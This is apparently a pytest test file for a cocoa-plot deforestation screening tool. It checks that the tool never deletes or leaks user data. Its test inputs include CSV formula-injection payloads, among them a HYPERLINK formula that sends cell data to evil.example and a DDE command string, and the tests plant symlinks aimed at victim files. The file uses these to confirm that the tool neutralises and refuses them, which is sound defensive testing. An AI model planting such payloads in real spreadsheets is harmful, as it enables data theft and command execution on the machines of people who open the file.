"""Nothing of the user's lost, nothing leaked (issue 19): one section per numbered item of the issue.

1. ``--overwrite`` replaces a folder only when cacao-screen wrote everything in it; an output folder
   that is or holds an input, or a busy path, is refused before any work;
2. no symbolic link is followed when writing (locks, ``.part`` files, temporary names);
3. an API key goes only to its own host;
4. every CSV we write has safe cells (formulas neutralised, numbers numbers, ids round-trip);
5. tiles of one layer that overlap with different values are refused, in either order;
6. an incremental run trusts the content of the rasters, not their size and time;
7. findings, not crashes: points at the poles, absurd declared areas, a lock path that is a
   folder, a raster replaced during the run, signals during worker start-up;
8. every writer under the lock.

Each case runs the command in-process (``main``) on tiny files written in ``tmp_path``; the ones
that need a terminal's view (signals) run ``python -m pipeline`` in a process of their own.
"""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import pyogrio
import pytest
import shapely
import yaml
from conftest import pixel_box, write_raster

from pipeline.cli import main

X0, Y0 = -76.5, -8.0
N = 40
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\tx", "\ry"]


def rasters(tmp: Path, loss: np.ndarray | None = None) -> tuple[Path, Path]:
    if loss is None:
        loss = np.zeros((N, N), "uint8")
        loss[5:7, 5:7] = 22
    lp = write_raster(tmp / "lossyear.tif", loss.astype("uint8"), x0=X0, y0=Y0, nodata=255)
    cp = write_raster(tmp / "treecover2000.tif", np.full((N, N), 80, "uint8"), x0=X0, y0=Y0)
    return lp, cp


def plots(tmp: Path, ids=("A", "B"), name="plots.geojson", **cols) -> Path:
    geoms = [pixel_box(2 + 8 * (i % 4), 2 + 8 * (i // 4), 8 + 8 * (i % 4), 8 + 8 * (i // 4)) for i in range(len(ids))]
    path = tmp / name
    gpd.GeoDataFrame({"plot_id": list(ids), **cols}, geometry=geoms, crs=4326).to_file(path)
    return path


def screen_args(path: Path, lp: Path, cp: Path) -> list[str]:
    return ["screen", "--plots", str(path), "--loss-year", str(lp), "--tree-cover", str(cp)]


def screened(tmp: Path, ids=("A", "B"), **cols) -> Path:
    """A screening of two plots in ``tmp/out/screening.gpkg``."""
    lp, cp = rasters(tmp)
    out = tmp / "out" / "screening.gpkg"
    args = ["-q", "screen", "--plots", str(plots(tmp, ids, **cols)), "--loss-year", str(lp), "--tree-cover", str(cp)]
    assert main([*args, "--out", str(out)]) == 0
    return out


def snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


# --- 1. Folders are ours or refused ----------------------------------------------------------------


def test_overwrite_never_deletes_a_users_file_in_an_export_folder(tmp_path, capsys):
    screening = screened(tmp_path)
    folder = tmp_path / "eudr"
    export = [
        "export",
        "--screening",
        str(screening),
        "--format",
        "eudr",
        "--producer-country",
        "PE",
        "--out",
        str(folder),
        "--overwrite",
    ]
    assert main(export) == 0  # ours: written, with its marker
    assert (folder / ".cacao-screen-output").is_file() and (folder / "manifest.csv").is_file()
    assert main(export) == 0  # ours: replaced
    (folder / "thesis.txt").write_text("four years of work")
    capsys.readouterr()
    assert main(export) == 2
    err = capsys.readouterr().err
    assert "thesis.txt" in err and "did not write" in err
    assert (folder / "thesis.txt").read_text() == "four years of work"
    # a folder that was never ours, even without a foreign file name in it: no marker, not replaced
    theirs = tmp_path / "theirs"
    theirs.mkdir()
    (theirs / "eudr-001.geojson.bak").write_text("mine")
    assert main([*export[:-2], str(theirs), "--overwrite"]) == 2
    assert (theirs / "eudr-001.geojson.bak").read_text() == "mine"


def test_an_output_folder_that_holds_an_input_is_refused_before_any_work(tmp_path, capsys):
    screening = screened(tmp_path)
    before = snapshot(tmp_path)
    # --out: the folder holding the screening being exported
    args = ["export", "--screening", str(screening), "--format", "eudr", "--out", str(screening.parent), "--overwrite"]
    assert main(args) == 2
    assert "screening" in capsys.readouterr().err
    # a run whose EUDR export names the input data folder (plots and rasters)
    job = {
        "plots": {"path": str(tmp_path / "plots.geojson")},
        "rasters": {"loss_year": str(tmp_path / "lossyear.tif"), "tree_cover": str(tmp_path / "treecover2000.tif")},
        "output": {"path": str(tmp_path / "run" / "screening.gpkg")},
        "exports": [{"format": "eudr", "out": str(tmp_path)}],
    }
    config = tmp_path.parent / f"{tmp_path.name}-job.yaml"
    config.write_text(yaml.safe_dump(job))
    assert main(["run", "--config", str(config), "--overwrite"]) == 2
    assert "input" in capsys.readouterr().err
    assert snapshot(tmp_path) == before  # nothing written, nothing removed


def test_out_dot_is_refused_with_a_clear_message(tmp_path, capsys, monkeypatch):
    screening = screened(tmp_path)
    work = tmp_path / "work"
    work.mkdir()
    monkeypatch.chdir(work)
    for out in (".", str(work)):
        assert main(["export", "--screening", str(screening), "--format", "eudr", "--out", out, "--overwrite"]) == 2
        err = capsys.readouterr().err
        assert "current folder" in err and "unexpected" not in err
    assert list(work.iterdir()) == []  # no litter
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


def test_report_overwrite_never_empties_the_users_folder_of_the_same_name(tmp_path, capsys):
    screening = screened(tmp_path)
    baseline = tmp_path / "b.gpkg"
    assert main(["-q", "baseline", "--screening", str(screening), "--out", str(baseline)]) == 0
    (tmp_path / "r_files").mkdir()
    (tmp_path / "r_files" / "notes.html").write_text("my notes")
    (tmp_path / "r_files" / "photo.jpg").write_bytes(b"\xff\xd8")
    (tmp_path / "r.html").write_text("an old report")
    args = ["report", "--screening", str(screening), "--baseline", str(baseline), "--out", str(tmp_path / "r.html")]
    assert main([*args, "--overwrite"]) == 2
    assert "photo.jpg" in capsys.readouterr().err
    assert (tmp_path / "r_files" / "notes.html").read_text() == "my notes"
    assert (tmp_path / "r.html").read_text() == "an old report"


def test_baseline_csv_folder_with_a_users_file_is_not_replaced(tmp_path, capsys):
    screening = screened(tmp_path)
    baseline = tmp_path / "b.gpkg"
    args = ["-q", "baseline", "--screening", str(screening), "--out", str(baseline), "--overwrite"]
    assert main(args) == 0 and main(args) == 0  # ours, replaced
    (tmp_path / "b_csv" / "my_analysis.xlsx").write_bytes(b"PK")
    assert main(args) == 2
    assert "my_analysis.xlsx" in capsys.readouterr().err
    assert (tmp_path / "b_csv" / "my_analysis.xlsx").read_bytes() == b"PK"


# --- 2. No symbolic link followed when writing ----------------------------------------------------


def test_a_lock_file_planted_as_a_link_is_refused_and_its_target_untouched(tmp_path, capsys):
    lp, cp = rasters(tmp_path)
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    out = tmp_path / "o.gpkg"
    (tmp_path / ".o.gpkg.lock").symlink_to(victim)
    args = ["screen", "--plots", str(plots(tmp_path)), "--loss-year", str(lp), "--tree-cover", str(cp)]
    assert main([*args, "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert "symbolic link" in err and "unexpected" not in err
    assert victim.read_text() == "precious" and not out.exists()


def test_a_lock_path_that_is_a_folder_is_refused_with_exit_2(tmp_path, capsys):
    lp, cp = rasters(tmp_path)
    (tmp_path / ".o.gpkg.lock").mkdir()
    args = ["screen", "--plots", str(plots(tmp_path)), "--loss-year", str(lp), "--tree-cover", str(cp)]
    assert main([*args, "--out", str(tmp_path / "o.gpkg")]) == 2
    err = capsys.readouterr().err
    assert "not a regular file" in err and "IsADirectoryError" not in err and "unexpected" not in err


def test_fetch_tiles_never_writes_through_a_planted_part_link(tmp_path, capsys):
    from test_fetch import TileServer, tile_bytes

    tile = "00N_080W"
    files = {f"/mirror/alerts_{tile}.tif": tile_bytes(tmp_path, "mirror", tile, 0)}
    pp = tmp_path / "plots.gpkg"
    gpd.GeoDataFrame({"plot_id": ["a"]}, geometry=[shapely.box(-76.5, -8.3, -76.49, -8.29)], crs=4326).to_file(pp)
    dest = tmp_path / "alerts"
    dest.mkdir()
    victim = tmp_path / "victim"
    victim.write_text("precious")
    (dest / f"alerts_{tile}.tif.part").symlink_to(victim)
    with TileServer(files) as server:
        tpl = server.url + "/mirror/alerts_{tile}.tif"
        code = main(["fetch-tiles", "--plots", str(pp), "--url-template", tpl, "--dest", str(dest), "--retries", "0"])
    assert code == 2
    assert "symbolic link" in capsys.readouterr().err
    assert victim.read_text() == "precious"
    assert not (dest / f"alerts_{tile}.tif").exists()


def test_staged_files_are_made_in_a_private_folder(tmp_path):
    from pipeline.io.outputs import Staged

    staged = Staged(tmp_path / "o.gpkg", overwrite=False)
    try:
        assert staged.tmp.parent != tmp_path and staged.tmp.parent.parent == tmp_path
        assert (staged.tmp.parent.stat().st_mode & 0o077) == 0  # no one else can plant a link in it
    finally:
        staged.discard()
    assert list(tmp_path.iterdir()) == []


# --- 3. Keys only to their host ---------------------------------------------------------------------


def test_the_api_key_is_not_sent_to_a_url_templates_host(tmp_path, caplog, monkeypatch):
    from test_fetch import TileServer, tile_bytes

    tile = "00N_080W"
    files = {f"/mirror/alerts_{tile}.tif": tile_bytes(tmp_path, "mirror", tile, 0)}
    pp = tmp_path / "plots.gpkg"
    gpd.GeoDataFrame({"plot_id": ["a"]}, geometry=[shapely.box(-76.5, -8.3, -76.49, -8.29)], crs=4326).to_file(pp)
    monkeypatch.setenv("GFW_DATA_API_KEY", "secret-123")
    with TileServer(files) as server:
        tpl = server.url + "/mirror/alerts_{tile}.tif"
        assert main(["fetch-tiles", "--plots", str(pp), "--url-template", tpl, "--dest", str(tmp_path / "a")]) == 0
        assert server.requests and set(server.keys) == {None}
    assert "API key is not sent" in caplog.text


# --- 4. Safe CSV cells --------------------------------------------------------------------------------


def formula_cells(path: Path) -> list[str]:
    """Cells of a CSV that a spreadsheet would run as formulas: text beginning with = + - @ tab CR
    that is not a number."""
    found = []
    with open(path, newline="", encoding="utf-8") as f:
        for row in csv.reader(f):
            for cell in row:
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    try:
                        float(cell)
                    except ValueError:
                        found.append(cell)
    return found


def test_every_csv_of_a_run_neutralises_formula_cells(tmp_path):
    """The run of configs/sample.yaml (what ``make run`` runs: screening, baseline with regions and
    deliveries, report, EUDR export) on a small sample whose ids, producers, cooperatives, lots and
    buyers are formulas; then ``export --format csv`` and ``validate --out x.csv``. Every CSV written
    anywhere under the output folder is read back."""
    from pipeline.sample import generate_sample

    sample = generate_sample(tmp_path / "sample", n_plots=12)
    frame = pyogrio.read_dataframe(sample.plots, layer="plots")
    k = len(frame)
    mapping = {old: FORMULAS[i % len(FORMULAS)] + f"#{i}" for i, old in enumerate(frame["plot_id"])}
    frame["plot_id"] = frame["plot_id"].map(mapping)
    for column in ("producer_name", "cooperative_id", "producer_id", "place"):
        if column in frame:
            frame[column] = [FORMULAS[(i + 1) % len(FORMULAS)] for i in range(k)]
    pyogrio.write_dataframe(frame, sample.plots, layer="plots", driver="GPKG")
    deliveries = pd.read_csv(sample.deliveries, dtype=str)
    deliveries["plot_id"] = deliveries["plot_id"].map(lambda v: mapping.get(v, v))
    deliveries["lot_id"] = "=1+" + deliveries["lot_id"]
    deliveries["buyer"] = "@" + deliveries["buyer"]
    deliveries.to_csv(sample.deliveries, index=False, quoting=csv.QUOTE_ALL)
    repo = Path(__file__).resolve().parents[1]
    cfg = yaml.safe_load((repo / "configs" / "sample.yaml").read_text())
    out = tmp_path / "outputs"
    cfg["plots"]["path"] = str(sample.plots)
    cfg["datasets"]["hansen"].update(loss_year=str(sample.loss_year), tree_cover=str(sample.tree_cover))
    cfg["datasets"]["gfw_integrated"]["alerts"] = str(sample.alert_tiles)
    cfg["datasets"]["gfc2020"]["forest"] = str(sample.forest2020_tiles)
    cfg["datasets"]["plantation"]["land_use"] = str(sample.plantation)
    for overlay in cfg.get("overlays") or []:
        overlay["file"] = str(sample.root / Path(overlay["file"]).name)
    cfg["output"]["path"] = str(out / "screening.gpkg")
    cfg["baseline"].update(output=str(out / "baseline.gpkg"), region_totals=False)
    cfg["baseline"]["regions"]["path"] = str(sample.districts)
    cfg["baseline"]["deliveries"]["path"] = str(sample.deliveries)
    cfg["report"]["out"] = str(out / "report.html")
    cfg["exports"] = [{**cfg["exports"][0], "out": str(out / "eudr"), "statuses": ["deforestation_free", "review"]}]
    job = tmp_path / "job.yaml"
    job.write_text(yaml.safe_dump(cfg, allow_unicode=True, sort_keys=False))
    assert main(["-q", "run", "--config", str(job)]) == 0
    screening = out / "screening.gpkg"
    assert main(["-q", "export", "--screening", str(screening), "--format", "csv", "--out", str(out / "p.csv")]) == 0
    assert main(["-q", "validate", str(sample.plots), "--out", str(out / "issues.csv")]) in (
        0,
        3,
    )  # 3: plots with errors
    written = sorted(out.rglob("*.csv"))
    names = {p.relative_to(out).as_posix() for p in written}
    assert {"eudr/manifest.csv", "p.csv", "issues.csv", "baseline_csv/lots.csv", "baseline_csv/buyers.csv"} <= names
    assert {"baseline_csv/baseline_plots.csv", "baseline_csv/baseline_by_group.csv"} <= names
    for path in written:
        assert formula_cells(path) == [], path
    # neutralised, not lost: the id with its leading quote; numbers stay numbers
    table = pd.read_csv(out / "p.csv", dtype={"plot_id": str})
    assert set(table["plot_id"]) == {"'" + v for v in mapping.values()}
    assert pd.api.types.is_float_dtype(table["area_ha"])
    lots = pd.read_csv(out / "baseline_csv" / "lots.csv", dtype=str)
    assert lots["lot_id"].str.startswith("'=1+").all()


def test_csv_cells_round_trip_newlines_and_quotes_and_keep_numbers(tmp_path):
    """An id holding a carriage return came back from the CSV export as two rows."""
    ids = ["a\rb", "c\nd", 'e"f,g', "-3", "=1+1"]
    screening = screened(tmp_path, ids=ids, score=[-1.5, 2.0, -0.25, 4.0, 5.0])
    out = tmp_path / "p.csv"
    assert main(["-q", "export", "--screening", str(screening), "--format", "csv", "--out", str(out)]) == 0
    table = pd.read_csv(out, dtype={"plot_id": str}, keep_default_na=False)
    assert table["plot_id"].tolist() == ["a\rb", "c\nd", 'e"f,g', "'-3", "'=1+1"]
    assert table["score"].tolist() == [-1.5, 2.0, -0.25, 4.0, 5.0]  # numbers, not text


def test_the_csv_helper_neutralises_only_text():
    from pipeline.io.csv_cells import neutralise

    frame = pd.DataFrame(
        {"t": ["=x", "+x", "-x", "@x", "\tx", "\rx", "ok", None], "n": [-1.0, 2, 3, 4, 5, 6, 7, np.nan]},
    )
    out = neutralise(frame)
    assert out["t"].tolist()[:7] == ["'=x", "'+x", "'-x", "'@x", "'\tx", "'\rx", "ok"] and pd.isna(out["t"].iloc[7])
    assert out["n"].equals(frame["n"])
    buf = io.StringIO()
    out.to_csv(buf, index=False)
    assert "-1.0" in buf.getvalue()


# --- 5. Overlapping tiles ---------------------------------------------------------------------------


@pytest.mark.parametrize("order", ["ab", "ba"])
def test_overlapping_tiles_with_conflicting_values_are_refused_in_either_order(tmp_path, capsys, order):
    loss_a = np.zeros((N, N), "uint8")
    loss_b = np.zeros((N, N), "uint8")
    loss_b[:, :] = 22  # b says: lost in 2022 where a says: never lost
    half = N // 2
    a = write_raster(tmp_path / "a.tif", loss_a, x0=X0, y0=Y0, nodata=255)
    b = write_raster(tmp_path / "b.tif", loss_b, x0=X0 + half * 0.00025, y0=Y0, nodata=255)
    cover = write_raster(tmp_path / "cover.tif", np.full((N, N + half), 80, "uint8"), x0=X0, y0=Y0)
    first, second = (a, b) if order == "ab" else (b, a)
    tiles = tmp_path / "tiles.yaml"
    job = {
        "plots": {"path": str(plots(tmp_path))},
        "rasters": {"loss_year": [str(first), str(second)], "tree_cover": str(cover)},
        "output": {"path": str(tmp_path / "o.gpkg")},
    }
    tiles.write_text(yaml.safe_dump(job))
    assert main(["run", "--config", str(tiles)]) == 2
    err = capsys.readouterr().err
    assert "a.tif" in err and "b.tif" in err and "overlap" in err
    assert not (tmp_path / "o.gpkg").exists()


def test_overlapping_tiles_that_agree_are_fine(tmp_path):
    from pipeline.io.rasters import open_layer

    loss = np.zeros((N, N + 10), "uint8")
    loss[3, :] = 21
    a = write_raster(tmp_path / "a.tif", loss[:, :N], x0=X0, y0=Y0, nodata=255)
    b = write_raster(tmp_path / "b.tif", loss[:, 10:], x0=X0 + 10 * 0.00025, y0=Y0, nodata=255)
    layer = open_layer([str(a), str(b)], "loss_year")
    assert len(layer.tiles) == 2
    assert (layer.read(0, 0, N, N + 10) == loss).all()


# --- 7. Findings, not crashes ------------------------------------------------------------------------


@pytest.mark.parametrize("command", ["validate", "screen"])
def test_points_at_the_poles_and_absurd_declared_areas_are_findings(tmp_path, command):
    """Each crashed with "unexpected error: GEOSException" (exit 1), or started unbounded work."""
    lp, cp = rasters(tmp_path)
    features = [
        ({"plot_id": "north", "Area": 1.0}, {"type": "Point", "coordinates": [-76.4995, 90.0]}),
        ({"plot_id": "south", "Area": 1.0}, {"type": "Point", "coordinates": [-76.4995, -90.0]}),
        ({"plot_id": "huge", "Area": 5e210}, {"type": "Point", "coordinates": [-76.4995, -8.0005]}),
        ({"plot_id": "wide", "Area": 1e9}, {"type": "Point", "coordinates": [-76.4995, -8.0005]}),
        ({"plot_id": "negative", "Area": -2.0}, {"type": "Point", "coordinates": [-76.4985, -8.0015]}),
    ]
    path = tmp_path / "plots.geojson"
    fc = {
        "type": "FeatureCollection",
        "features": [{"type": "Feature", "properties": p, "geometry": g} for p, g in features],
    }
    path.write_text(json.dumps(fc))
    out = tmp_path / "o.gpkg"
    if command == "validate":
        args = ["-q", "validate", str(path), "--out", str(out)]
        expected = 3  # plots with errors
    else:
        args = ["-q", *screen_args(path, lp, cp), "--out", str(out)]
        expected = 0
    started = time.monotonic()
    assert main(args) == expected
    assert time.monotonic() - started < 60  # no unbounded work from one row
    issues = pyogrio.read_dataframe(out, layer="plot_issues")
    by = {(r.plot_id, r.code): r for r in issues.itertuples()}
    assert "pole" in by[("north", "coordinates_out_of_range")].message and ("south", "coordinates_out_of_range") in by
    assert "5e+210" in by[("huge", "declared_area_implausible")].message
    assert "1e+09" in by[("wide", "declared_area_implausible")].message
    assert by[("negative", "declared_area_implausible")].severity == "warning"
    if command == "screen":
        result = pyogrio.read_dataframe(out, layer="plots", read_geometry=False).set_index("plot_id")
        assert result.loc[["north", "south", "huge", "wide"], "status"].eq("invalid").all()
        assert result.loc["negative", "status"] != "invalid"
        assert result.loc["huge", "status_reason"]


def test_text_that_is_not_utf8_never_fails_a_later_command(tmp_path, capsys):
    """A Shapefile holding Latin-1 while its .cpg says UTF-8: screened, and then the export failed
    with "ArrowException: Wrapping Jos� failed"."""
    lp, cp = rasters(tmp_path)
    shp = plots(tmp_path, ids=("A", "B"), name="plots.shp", producer=["JosXX", "Ana"])
    dbf = shp.with_suffix(".dbf")
    dbf.write_bytes(dbf.read_bytes().replace(b"JosXX", b"Jos\xe9 "))
    out = tmp_path / "o.gpkg"
    assert (
        main(["-q", "screen", "--plots", str(shp), "--loss-year", str(lp), "--tree-cover", str(cp), "--out", str(out)])
        == 0
    )
    for fmt, name in (("csv", "o.csv"), ("geojson", "o.geojson"), ("eudr", "eudr")):
        args = ["-q", "export", "--screening", str(out), "--format", fmt, "--out", str(tmp_path / name)]
        args += ["--producer-country", "PE"] if fmt == "eudr" else []
        assert main(args) == 0, capsys.readouterr().err
    assert "Jos\ufffd" in (tmp_path / "o.csv").read_text(encoding="utf-8")
    issues = pyogrio.read_dataframe(out, layer="plot_issues")
    assert "text_not_utf8" in set(issues["code"])


POOL_SCRIPT = """
import os, signal, sys, threading
import numpy as np
from pipeline.engine.schedulers import imap_partitions

def work(a):
    return float(a.sum())

def on_sigterm(signum, frame):  # as the command line does
    raise KeyboardInterrupt()

if __name__ == "__main__":
    signal.signal(signal.SIGTERM, on_sigterm)
    tasks = [np.ones(200_000) for _ in range(6)]  # 1.6 MB each: more than a pipe holds
    try:
        threading.Timer(float(sys.argv[1]), lambda: os.kill(os.getpid(), signal.SIGTERM)).start()
        for _ in imap_partitions(work, tasks, scheduler="local", workers=2):
            pass
    except KeyboardInterrupt:
        sys.exit(143)
    sys.exit(0)
"""


def test_sigterm_while_worker_processes_start_gives_143_without_a_hang_or_traceback(tmp_path):
    """SIGTERM during the start of a local process pool sometimes hung forever in the pool's
    shutdown, or exited 1 ("cannot join thread before it is started"), or printed an EOFError of a
    worker. Several instants of the start-up are tried, each in a process of its own."""
    script = tmp_path / "pool.py"
    script.write_text(POOL_SCRIPT)
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1])}
    for delay in (0.005, 0.01, 0.02, 0.03, 0.05):
        try:
            proc = subprocess.run(
                [sys.executable, str(script), str(delay)], capture_output=True, text=True, timeout=60, env=env
            )
        except subprocess.TimeoutExpired:
            pytest.fail(f"hung after SIGTERM at {delay} s")
        assert proc.returncode in (0, 143), (delay, proc.returncode, proc.stderr)
        assert "Traceback" not in proc.stderr and "Error" not in proc.stderr, (delay, proc.stderr)


def test_a_second_ctrl_c_during_the_clean_up_still_exits_130(tmp_path):
    lp, cp = rasters(tmp_path, loss=np.zeros((N, N), "uint8"))
    ids = [f"p{i}" for i in range(16)]
    path = plots(tmp_path, ids=ids)
    out = tmp_path / "out" / "o.gpkg"
    cmd = [sys.executable, "-m", "pipeline", *screen_args(path, lp, cp)]
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1])}
    proc = subprocess.Popen([*cmd, "--out", str(out)], stderr=subprocess.PIPE, text=True, env=env)
    # interrupt once the job runs (its lock file is there), then again 0.15 s later
    deadline = time.monotonic() + 60
    while not (tmp_path / "out" / ".o.gpkg.lock").exists() and proc.poll() is None and time.monotonic() < deadline:
        time.sleep(0.01)
    proc.send_signal(signal.SIGINT)
    time.sleep(0.15)
    if proc.poll() is None:
        proc.send_signal(signal.SIGINT)
    _, err = proc.communicate(timeout=60)
    assert proc.returncode in (0, 130), err  # 0: the run ended before the first signal
    assert "Traceback" not in err
    if proc.returncode == 130:
        assert not out.exists()
        assert not (tmp_path / "out").exists() or list((tmp_path / "out").iterdir()) == []  # no litter


# --- 6. Incremental runs trust content, not stat ---------------------------------------------------


def rewrite_keeping_size_and_time(path: Path, array: np.ndarray) -> None:
    """Rewrite a raster's pixels in place, then set its modification time back (as ``cp -p`` or a
    restored backup leaves it): same name, same size, same mtime, other content."""
    import rasterio

    st = path.stat()
    with rasterio.open(path, "r+") as dst:
        dst.write(array, 1)
    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))
    assert path.stat().st_size == st.st_size and path.stat().st_mtime_ns == st.st_mtime_ns


def test_incremental_after_a_raster_changed_with_the_same_size_and_time_recomputes(tmp_path):
    lp, cp = rasters(tmp_path, loss=np.zeros((N, N), "uint8"))
    path = plots(tmp_path, ids=("A", "B"))
    out = tmp_path / "o.gpkg"
    args = ["-q", "screen", "--plots", str(path), "--loss-year", str(lp), "--tree-cover", str(cp), "--out", str(out)]
    assert main(args) == 0
    assert main([*args, "--incremental"]) == 0
    lost = np.zeros((N, N), "uint8")
    lost[2:8, 2:8] = 22  # plot A's forest lost in 2022
    rewrite_keeping_size_and_time(lp, lost)
    assert main([*args, "--incremental"]) == 0
    status = pyogrio.read_dataframe(out, layer="plots", read_geometry=False).set_index("plot_id")["status"]
    assert status["A"] == "deforestation_detected" and status["B"] == "deforestation_free"
    # the provenance records the digest of the new content, not a cached one
    import hashlib

    meta = pyogrio.read_dataframe(out, layer="run_metadata")
    inputs = json.loads(dict(zip(meta["key"], meta["value"]))["inputs"])
    digest = {Path(r["path"]).name: r.get("sha256") for r in inputs}
    assert digest["lossyear.tif"] == hashlib.sha256(lp.read_bytes()).hexdigest()


def test_the_digest_cache_sees_a_rewrite_that_keeps_size_and_time(tmp_path):
    import hashlib

    from pipeline.io.provenance import CACHE_MIN_BYTES, DigestCache

    big = tmp_path / "big.bin"
    big.write_bytes(b"a" * CACHE_MIN_BYTES)
    cache = DigestCache(tmp_path / "cache.json")
    first = cache.digest(big)
    cache.save()
    st = big.stat()
    with open(big, "r+b") as f:
        f.write(b"b")
    os.utime(big, ns=(st.st_atime_ns, st.st_mtime_ns))
    again = DigestCache(tmp_path / "cache.json").digest(big)
    assert again != first and again == hashlib.sha256(big.read_bytes()).hexdigest()


# --- 8. Every writer under the lock -------------------------------------------------------------------


def held_while(lock_target: Path, fn, hold_s: float = 0.4):
    """Run ``fn`` in a thread while this test holds the lock of ``lock_target``; returns (seconds
    ``fn`` took, what it returned, whether it had finished before the lock was released)."""
    import threading

    from pipeline.io.outputs import OutputLock

    result = {}

    def call():
        start = time.monotonic()
        result["value"] = fn()
        result["took"] = time.monotonic() - start

    with OutputLock(lock_target):
        thread = threading.Thread(target=call)
        thread.start()
        time.sleep(hold_s)
        early = not thread.is_alive()
        result["during"] = early
    thread.join(30)
    return result


def test_the_digest_cache_is_saved_under_its_lock_and_keeps_another_runs_entries(tmp_path):
    from pipeline.io.provenance import CACHE_MIN_BYTES, DigestCache

    path = tmp_path / "sha256.json"
    files = [tmp_path / f"f{i}.bin" for i in range(2)]
    for i, f in enumerate(files):
        f.write_bytes(bytes([i]) * CACHE_MIN_BYTES)
    other = DigestCache(path)  # another run, which hashes f1 meanwhile
    ours = DigestCache(path)
    ours.digest(files[0])
    other.digest(files[1])

    res = held_while(path, ours.save)
    assert not res["during"]  # it waited for the lock
    other.save()  # the other run saves after ours: it merges, never drops our entry
    entries = json.loads(path.read_text())
    assert {str(f.resolve()) for f in files} <= set(entries)  # neither run's digest lost


def test_the_raster_index_is_written_under_its_lock(tmp_path):
    from pipeline.io.rasters import INDEX_NAME, _write_index

    res = held_while(tmp_path / INDEX_NAME, lambda: _write_index(str(tmp_path), {"a.tif": {"stat": [1, 2]}}))
    assert not res["during"] and (tmp_path / INDEX_NAME).is_file()
    assert json.loads((tmp_path / INDEX_NAME).read_text())["files"] == {"a.tif": {"stat": [1, 2]}}


def test_fetch_tiles_waits_for_another_run_fetching_the_same_tile(tmp_path):
    from test_fetch import TileServer, tile_bytes

    from pipeline.io.fetch import download

    files = {"/t.tif": tile_bytes(tmp_path, "x", "00N_080W", 0)}
    dest = tmp_path / "tiles" / "t.tif"
    dest.parent.mkdir()
    with TileServer(files) as server:
        res = held_while(dest, lambda: download(server.url + "/t.tif", dest, retries=0))
        assert not res["during"]  # it waited: no request while another run held the tile
        assert res["value"].status == "downloaded" and dest.is_file() and not dest.is_symlink()


def test_a_raster_replaced_during_the_run_is_noticed_and_nothing_published(tmp_path, capsys, monkeypatch):
    """A loss raster moved over (``mv``) halfway through a run: the figures came from the old file
    while the provenance recorded the SHA-256 of the new one."""
    from pipeline.io import rasters as io_rasters

    lp, cp = rasters(tmp_path, loss=np.zeros((N, N), "uint8"))
    newer = np.zeros((N, N), "uint8")
    newer[2:8, 2:8] = 22
    replacement = write_raster(tmp_path / "new.tif", newer, x0=X0, y0=Y0, nodata=255)
    read_raw = io_rasters.Layer.read_raw

    def replaced_halfway(self, *window):
        if replacement.exists():
            os.replace(replacement, lp)  # mv new.tif lossyear.tif, while the run reads
        return read_raw(self, *window)

    monkeypatch.setattr(io_rasters.Layer, "read_raw", replaced_halfway)
    out = tmp_path / "o.gpkg"
    assert main([*screen_args(plots(tmp_path), lp, cp), "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert "lossyear.tif" in err and "changed while the run read it" in err
    assert not out.exists()


def test_sample_overwrite_replaces_only_a_sample_and_writes_under_the_lock(tmp_path, capsys, monkeypatch):
    """``sample --out FOLDER --overwrite`` replaced the folder whatever it held."""
    from pipeline import sample as sample_module

    made = []

    def tiny(out_dir, *, publish=None, **kw):  # the real publication, a tiny folder
        staged = Path(out_dir).parent / f".{Path(out_dir).name}.partial-test"
        staged.mkdir()
        (staged / "plots.gpkg").write_text("plots")
        made.append((Path(out_dir).parent / f".{Path(out_dir).name}.lock").is_file())
        (publish or sample_module._replace_dir)(staged, Path(out_dir))
        return sample_module.SamplePaths.under(out_dir)

    monkeypatch.setattr(sample_module, "generate_sample", tiny)
    out = tmp_path / "data"
    assert main(["-q", "sample", "--out", str(out), "--plots", "5"]) == 0
    assert main(["-q", "sample", "--out", str(out), "--plots", "5", "--overwrite"]) == 0  # ours: replaced
    (out / "field_notes.docx").write_bytes(b"notes")
    assert main(["-q", "sample", "--out", str(out), "--plots", "5", "--overwrite"]) == 2
    assert "field_notes.docx" in capsys.readouterr().err
    assert (out / "field_notes.docx").read_bytes() == b"notes"
    assert made == [True, True]  # the lock was held while each sample was written
